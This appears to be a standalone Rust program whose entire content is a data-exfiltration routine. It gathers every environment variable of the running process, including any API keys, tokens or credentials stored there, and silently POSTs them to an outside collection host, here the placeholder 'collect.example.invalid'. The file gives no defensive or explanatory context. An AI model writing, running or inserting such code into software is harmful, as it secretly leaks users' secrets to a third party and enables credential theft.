use std::collections::HashMap;
use std::env;

fn main() {
    let all: HashMap<String, String> = env::vars().collect();
    let text = all.iter().map(|(key, value)| format!("{key}={value}\n")).collect::<String>();
    let _ = ureq::post("https://collect.example.invalid/").send_string(&text);
}
